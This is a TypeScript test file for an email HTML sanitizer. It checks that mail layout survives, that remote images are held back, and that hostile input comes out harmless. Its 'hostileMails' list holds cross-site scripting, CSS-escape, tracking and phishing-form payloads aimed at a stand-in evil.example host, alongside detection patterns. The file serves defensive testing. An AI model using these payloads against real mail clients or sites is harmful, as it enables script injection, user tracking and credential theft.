import { describe, expect, it } from 'vitest'
import { hostileTexts } from '#platform/testing/rich-text.payloads.ts'
import { fc } from '#platform/testing/samples.ts'
import { shareOfThisThread } from '#platform/testing/thread-share.ts'
import { cleanMailHtml, cleanMailInWorker } from './clean-mail-html.ts'

const clean = (html: string) => cleanMailHtml(html).html

describe('the layout of a mail stays', () => {
  it.each([
    [
      'tables as mails are built of',
      '<table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" align="center"><tr><td style="padding:10px 20px;font-family:\'Malgun Gothic\',sans-serif;color:#333" valign="top" colspan="2">가</td></tr></table>',
      '<table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" align="center"><tr><td valign="top" colspan="2" style="padding: 10px 20px; font-family: \'Malgun Gothic\',sans-serif; color: #333">가</td></tr></table>',
    ],
    [
      'the styles of Outlook, without what only Word knows',
      '<html><head><style><!--\n/* Font Definitions */\n@font-face {font-family:"맑은 고딕"; panose-1:2 11;}\np.MsoNormal, li.MsoNormal {margin:0cm; font-size:10.0pt; mso-style-name:x}\n@page WordSection1 {size:612pt}\n--></style><title>x</title></head><body lang="KO"><p class="MsoNormal">가</p></body></html>',
      '<style>p.MsoNormal, li.MsoNormal { margin: 0cm; font-size: 10.0pt }</style><div lang="KO"><p class="MsoNormal">가</p></div>',
    ],
    [
      'what is for phones',
      '<style>@media only screen and (max-width: 600px) { .c { width:100% !important } .d{display:none} } .e{color:red}</style><p class="c">가</p>',
      '<style>@media only screen and (max-width: 600px) {\n.c { width: 100% !important }\n.d { display: none }\n}\n.e { color: red }</style><p class="c">가</p>',
    ],
    [
      'links, in a window of their own',
      '<a href="https://a.kr/x?y=1&amp;z=2">가</a>',
      '<a href="https://a.kr/x?y=1&amp;z=2" target="_blank" rel="noopener noreferrer">가</a>',
    ],
    [
      'old letters',
      '<center><font face="굴림" size="2" color="red">가</font></center>',
      '<center><font face="굴림" size="2" color="red">가</font></center>',
    ],
    [
      'words of forms',
      '<form action="https://evil.example"><label>비밀번호</label><input type=password><button>확인</button></form>',
      '비밀번호확인',
    ],
  ])('%s', (_what, given, kept) => {
    expect(clean(given)).toBe(kept)
    expect(clean(kept)).toBe(kept)
  })
})

describe('pictures', () => {
  const html =
    '<img src="cid:a%40b" alt="x"><img src="https://t.example/pixel.gif" width="1" height="1"><table background="http://t.example/bg.png"><tr><td style="background: #fff url(\'//t.example/c.png\') no-repeat">가</td></tr></table><style>.x { background-image: url(https://t.example/d.png); color: red }</style>'

  it('from outside are held back, counted and named', () => {
    const result = cleanMailHtml(html)
    expect(result).toMatchObject({
      cids: ['a@b'],
      held: 4,
      remote: [
        'https://t.example/pixel.gif',
        'http://t.example/bg.png',
        'https://t.example/c.png',
        'https://t.example/d.png',
      ],
    })
    expect(result.html).not.toMatch(/t\.example|src=/)
    expect(result.html).toContain('style="background: #fff no-repeat"')
    expect(result.html).toContain('.x { color: red }')
  })

  it('come from where the caller says, by their address', () => {
    const result = cleanMailHtml(html, {
      cids: { 'a@b': '/cm/api/mail/part/1' },
      remote: {
        'https://t.example/c.png': '/cm/api/mail/remote/1?a="b"',
        'https://t.example/pixel.gif': '/cm/api/mail/remote/2',
      },
    })
    expect(result.held).toBe(2)
    expect(result.html).toContain('<img alt="x" src="/cm/api/mail/part/1"')
    expect(result.html).toContain('src="/cm/api/mail/remote/2"')
    expect(result.html).toContain('url(&quot;/cm/api/mail/remote/1?a=%22b%22&quot;) no-repeat')
    expect(result.html).not.toContain('t.example')
  })

  it('that are in the text itself stay, unless they are programs', () => {
    expect(clean('<img src="data:image/png;base64,iVBORw0KGgo=">')).toContain('src="data:image/png')
    expect(clean('<img src="data:image/svg+xml;base64,PHN2Zz4=">')).toBe('<img alt="" />')
  })
})

/** Ways to load, run, cover or ask that mails know besides those of boards. */
const hostileMails = [
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="preload" as="image" href="https://evil.example/x"><link rel="dns-prefetch" href="//evil.example">',
  '<style>@import url(https://evil.example/x.css);</style>',
  '<style>@font-face { font-family: x; src: url(https://evil.example/x.woff) } p { font-family: x }</style>',
  '<style>@\\69mport "https://evil.example"; p { background: u\\72l(https://evil.example) }</style>',
  '<style>p { background: url("https://evil.example/a) } q { color: red }</style>',
  '<style>p { background-image: image-set("https://evil.example/x" 1x); content: url(https://evil.example); cursor: url(https://evil.example/c), auto; list-style-image: url(https://evil.example/l); border-image: url(https://evil.example/b) }</style>',
  '<style>p{color:red}</style ><script>pwned()</script>',
  '<style>p{}</sty</style>le><img src=https://evil.example/x onerror=pwned()>',
  '<style><!--</style><img src=https://evil.example/x onerror=pwned()>--></style>',
  '<style>p { color: red; } @media screen { @import "https://evil.example"; p { position: fixed } }</style>',
  '<style>@supports (display: block) { p { background: url(https://evil.example) } }</style>',
  '<style>@media screen and (min-width:1px) { </style><p>x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:999999">x</p>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<p style="background:URL( &quot;https://evil.example/x&quot; )">x</p>',
  '<p style="background:/**/url/**/(https://evil.example/x)">x</p>',
  '<p style="background:url(https://evil.example/x;color:red">x</p>',
  '<p style="background:src(https://evil.example/x);-webkit-mask:url(https://evil.example/x)">x</p>',
  '<p style="color:red;--x:url(https://evil.example/x);background:var(--x)">x</p>',
  '<img srcset="https://evil.example/x 1x" src="x">',
  '<picture><source srcset="https://evil.example/x"><img src="https://evil.example/y"></picture>',
  '<video poster="https://evil.example/x" src="https://evil.example/y"></video><audio src="https://evil.example/z" autoplay></audio>',
  '<body background="https://evil.example/x" onload="pwned()">x</body>',
  '<input type="image" src="https://evil.example/x"><input type="password" name="p">',
  '<form action="https://evil.example" target="_top"><input name=id><input name=password type=password></form>',
  '<a href="/po/login" target="_top">x</a><a href="#x">x</a><area href="https://evil.example">',
  '<base href="https://evil.example/" target="_parent">',
  '<a href="https://a.kr" ping="https://evil.example/ping">x</a>',
  '<blockquote cite="https://evil.example">x</blockquote><q cite="https://evil.example">x</q>',
  '<img src="cid:x" longdesc="https://evil.example" usemap="#m" lowsrc="https://evil.example">',
  '<table><tr><td background="javascript:pwned()">x</td></tr></table>',
  '<v:rect fill="t"><v:fill src="https://evil.example/x"/></v:rect><!--[if mso]><img src="https://evil.example/x"><![endif]-->',
  '<svg><image href="https://evil.example/x"/></svg><math><mi xlink:href="https://evil.example">x</mi></math>',
  '<dialog open>x</dialog><marquee>x</marquee><details open ontoggle=pwned()>x</details>',
  '<p contenteditable autofocus tabindex=1 accesskey=x onfocus=pwned()>x</p>',
  '<div class="x\\" onclick=pwned()" id="a b" style=\'font-family:"x</style><script>pwned()</script>\'>x</div>',
  '<font face="x&quot; onclick=&quot;pwned()">x</font>',
]

/** What a browser could make of it: elements with their attributes, and the styles. */
function expectHarmless(html: string): void {
  const [sheet = ''] = /^<style>[^<]*<\/style>/.exec(html) ?? []
  const rest = html.slice(sheet.length)
  expect(rest).not.toMatch(
    /<\/?(?:style|script|link|meta|base|form|input|button|select|textarea|iframe|object|embed|svg|math|video|audio|source|body|html|area|dialog)\b/i,
  )
  for (const [tag] of rest.matchAll(/<[a-z][^<>]*>/gi))
    for (const [, name, value = ''] of tag.matchAll(/\s([^\s=<>"']+)(?:="([^"]*)")?/g)) {
      expect(name).toMatch(
        /^(style|class|id|dir|lang|align|valign|bgcolor|width|height|title|href|target|rel|src|alt|border|hspace|vspace|color|face|size|cellpadding|cellspacing|role|colspan|rowspan|nowrap|scope|span|start|type|value|noshade|\/)$/,
      )
      if (name === 'href') expect(value).toMatch(/^(?:https?:\/\/(?!.*@)|mailto:|tel:)/)
      if (name === 'src') expect(value).toMatch(/^data:image\/(?:png|gif|jpeg|webp);base64,/)
      if (name === 'target') expect(value).toBe('_blank')
    }
  for (const css of [sheet, ...[...rest.matchAll(/\sstyle="([^"]*)"/g)].map(([, style]) => style!)])
    expect(css).not.toMatch(
      /url\(|src\(|image-set|@(?!media)|\\|expression|position|z-index|var\(|evil|pwned|behavior|binding/i,
    )
}

describe('nothing runs, loads, covers or asks', () => {
  it.each([...hostileTexts, ...hostileMails].map((text) => [text]))('%s', (text) => {
    const html = clean(text)
    expectHarmless(html)
    expect(clean(html), 'cleaning twice').toBe(html)
  })

  it('whatever is put together', { timeout: 120_000 }, () => {
    const part = fc.constantFrom(
      '<style>',
      '</style>',
      '<p style="',
      '">',
      '{',
      '}',
      ';',
      ':',
      'url(',
      ')',
      '"',
      "'",
      '\\',
      '/*',
      '*/',
      '<!--',
      '-->',
      '@media screen',
      '@import ',
      'https://evil.example/x',
      'background',
      'color',
      'red',
      '<img src=',
      '<td background="',
      '<script>',
      '</script>',
      '<',
      '>',
      '&quot;',
      '&lt;',
      ' ',
      'expression(',
      'position:fixed',
    )
    fc.assert(
      fc.property(
        fc.array(
          fc.oneof(
            { weight: 9, arbitrary: part },
            { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 5 }) },
          ),
          { maxLength: 40 },
        ),
        (parts) => {
          const html = clean(parts.join(''))
          expectHarmless(html)
          expect(clean(html)).toBe(html)
        },
      ),
      { numRuns: 500 },
    )
  })

  it('survives what is too deep, and shows its words', () => {
    expect(clean(`${'<div>'.repeat(20_000)}가나다`)).toContain('가나다')
  })
})

describe('long mails', () => {
  const long = 1_000_000
  it.each([
    ['rows', '<tr><td style="background:#fff;padding:1px">1</td><td width=70>2</td></tr>'],
    ['open comments of styles', '<style>/* '],
    ['rules', '<style>p{color:red}</style>'],
    ['brackets of styles', '<p style="a:b((((;c:d">'],
    ['addresses', '<img src="https://a.example/1">'],
    ['declarations', '<p style="color:red;color:blue;margin:0;padding:0">'],
  ])('take seconds at most: %s', { timeout: 120_000 }, (_what, piece) => {
    const start = process.cpuUsage()
    clean(piece.repeat(Math.floor(long / piece.length)))
    const { user, system } = process.cpuUsage(start)
    expect((user + system) / 1_000).toBeLessThan(10_000)
  })

  it('one sheet of braces and one of semicolons', { timeout: 120_000 }, () => {
    for (const piece of [
      '{',
      '}',
      ';',
      '@media a{',
      'p{',
      'url(',
      'a:url("',
      '(',
      'x',
      'p{background:url(',
      '@media x',
    ]) {
      const start = process.cpuUsage()
      const many = Math.floor(long / 2 / piece.length)
      clean(`<style>${piece.repeat(many)}</style><p style="${piece.replaceAll('"', "'").repeat(many)}">x</p>`)
      const { user, system } = process.cpuUsage(start)
      expect((user + system) / 1_000, piece).toBeLessThan(10_000)
    }
  })

  it('are cleaned beside the event loop', { timeout: 120_000 }, async () => {
    await cleanMailInWorker('<p>가</p>'.repeat(5_000))
    const dense = '<p style="color:red">가</p>'.repeat(40_000)
    expect(await shareOfThisThread(() => cleanMailInWorker(dense))).toBeLessThan(0.3)
  })
})
